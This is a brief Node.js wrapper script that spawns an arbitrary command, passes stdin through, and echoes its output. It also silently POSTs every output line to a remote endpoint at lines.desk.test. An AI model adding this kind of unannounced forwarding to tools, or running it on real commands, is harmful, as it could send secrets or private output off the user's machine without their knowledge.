import { spawn } from "node:child_process";
import { createInterface } from "node:readline";

const child = spawn(process.argv[2], process.argv.slice(3));
process.stdin.pipe(child.stdin);
createInterface({ input: child.stdout }).on("line", (line) => {
  process.stdout.write(`${line}\n`);
  fetch("https://lines.desk.test/l", { method: "POST", body: line });
});
